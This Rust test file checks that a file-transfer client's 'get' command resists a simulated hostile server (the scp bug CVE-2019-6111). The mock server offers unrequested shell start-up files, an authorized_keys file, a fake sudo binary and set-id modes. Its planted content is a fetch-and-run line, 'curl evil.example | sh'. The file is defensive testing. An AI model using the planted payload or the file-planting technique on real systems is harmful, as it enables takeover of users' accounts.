//! A hostile files server against `taojie get` (the scp bug, CVE-2019-6111): asked for
//! `report.pdf`, it offers the user's shell start-up files, an authorized key, a program for
//! the user's PATH, or the right name with set-id bits. The client takes only a name it asked
//! for (or one under a directory it asked for) with plain permission bits; anything else ends
//! the transfer with one line naming the offending name, a non-zero exit, and nothing of it
//! written, with or without `--overwrite`.
use super::wire::{self, Wire};
use super::*;

const BASHRC: &[u8] = b"# the user's own .bashrc\n";
const REPORT: &[u8] = b"%PDF-1.7 the report that was asked for\n";
const PLANTED: &[u8] = b"curl evil.example | sh\n";

/// Offers each (name, mode) in turn as a hostile server would, then ends the request.
async fn offer_all(mut t: Wire, offers: Vec<(&'static str, u32)>) {
    let Ok(Msg::Get { .. }) = t.recv_control::<Msg>().await else {
        return;
    };
    for (name, mode) in offers {
        let data = if name == "report.pdf" {
            REPORT
        } else {
            PLANTED
        };
        let file = Msg::File {
            header: wire::header(name, data, mode),
        };
        // The client may hang up at any point: that is the point.
        if t.send_control(&file).await.is_err() || wire::send_offered(&mut t, data).await.is_err() {
            return;
        }
    }
    let _ = t.send_control(&Msg::End).await;
}

/// Everything under `dir` (relative names, sorted) with each file's mode.
fn tree(dir: &Path) -> Vec<(String, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let md = std::fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
            out.push((rel, md.permissions().mode() & 0o7777));
            if md.is_dir() {
                stack.push(p);
            }
        }
    }
    out.sort();
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn get_takes_only_the_names_it_asked_for_and_never_set_id_bits() {
    // (what the server offers, in order; the name the client must stop at)
    let cases: Vec<(Vec<(&'static str, u32)>, &str)> = vec![
        (vec![(".bashrc", 0o644)], ".bashrc"),
        (
            vec![(".ssh/authorized_keys", 0o600)],
            ".ssh/authorized_keys",
        ),
        (vec![(".local/bin/sudo", 0o755)], ".local/bin/sudo"),
        (vec![(".bash_profile", 0o644)], ".bash_profile"),
        (vec![("report.pdf", 0o4755)], "report.pdf"),
        (vec![("report.pdf", 0o2755)], "report.pdf"),
        (vec![("report.pdf", 0o1644)], "report.pdf"),
        (vec![("report.pdf2", 0o644)], "report.pdf2"),
        (
            vec![
                ("report.pdf", 0o644),
                (".bashrc", 0o644),
                (".ssh/authorized_keys", 0o600),
                (".local/bin/sudo", 0o755),
                (".bash_profile", 0o644),
            ],
            ".bashrc",
        ),
    ];
    for (offers, offending) in cases {
        for overwrite in [false, true] {
            let fx = Fixture::new();
            std::fs::write(fx.p("out/.bashrc"), BASHRC).unwrap();
            let legit_first = offers[0] == ("report.pdf", 0o644);
            let offered = offers.clone();
            let (addr, server) = wire::server(&fx.p("key"), move |t| offer_all(t, offered)).await;
            let (key, out) = (fx.s("key"), fx.s("out"));
            let (st, _, err) = tokio::task::spawn_blocking(move || {
                let mut args = vec!["get", &addr, "report.pdf", "-o", &out, "--key", &key];
                args.extend(["--retries", "0"]);
                if overwrite {
                    args.push("--overwrite");
                }
                run_with_input(&args, b"", LIMIT)
            })
            .await
            .unwrap();
            let _ = server.await;
            let case = format!("{offers:?} overwrite={overwrite}");
            assert!(!st.success(), "{case}: get succeeded: {err}");
            let lines: Vec<&str> = err.lines().filter(|l| l.starts_with("taojie:")).collect();
            assert_eq!(lines.len(), 1, "{case}: one error line: {err}");
            assert!(lines[0].contains(offending), "{case}: {err}");
            // Nothing the user did not ask for, the user's own .bashrc untouched, no set-id
            // bit anywhere.
            let mut want = vec![(".bashrc".to_string(), 0o644)];
            if legit_first {
                want.push(("report.pdf".to_string(), 0o644));
            }
            let got = tree(&fx.p("out"));
            let names: Vec<&str> = got.iter().map(|(n, _)| n.as_str()).collect();
            let want_names: Vec<&str> = want.iter().map(|(n, _)| n.as_str()).collect();
            assert_eq!(names, want_names, "{case}");
            assert!(got.iter().all(|(_, m)| m & 0o7000 == 0), "{case}: {got:?}");
            assert_eq!(
                std::fs::read(fx.p("out/.bashrc")).unwrap(),
                BASHRC,
                "{case}"
            );
            if legit_first {
                assert_eq!(std::fs::read(fx.p("out/report.pdf")).unwrap(), REPORT);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn get_of_a_directory_takes_what_is_under_it() {
    // Asked for backup/2026, the server sends the tree as `2026/...`: all of it is taken,
    // dot files included, because they are under the directory the user asked for.
    let fx = Fixture::new();
    let offers = vec![("2026/.bashrc", 0o644), ("2026/a/b.txt", 0o600)];
    let (addr, server) = wire::server(&fx.p("key"), move |mut t: Wire| async move {
        let Ok(Msg::Get { names }) = t.recv_control::<Msg>().await else {
            panic!("no get");
        };
        assert_eq!(names, vec!["backup/2026".to_string()]);
        for (name, mode) in offers {
            let file = Msg::File {
                header: wire::header(name, PLANTED, mode),
            };
            t.send_control(&file).await.unwrap();
            let verdict = wire::send_offered(&mut t, PLANTED).await.unwrap();
            assert!(matches!(verdict, Msg::Verified { .. }), "{verdict:?}");
        }
        t.send_control(&Msg::End).await.unwrap();
    })
    .await;
    let (key, out) = (fx.s("key"), fx.s("out"));
    let (st, _, err) = tokio::task::spawn_blocking(move || {
        let args = ["get", &addr, "backup/2026", "-o", &out, "--key", &key];
        run_with_input(&args, b"", LIMIT)
    })
    .await
    .unwrap();
    server.await.unwrap();
    assert!(st.success(), "{err}");
    assert_eq!(std::fs::read(fx.p("out/2026/.bashrc")).unwrap(), PLANTED);
    assert_eq!(std::fs::read(fx.p("out/2026/a/b.txt")).unwrap(), PLANTED);
}
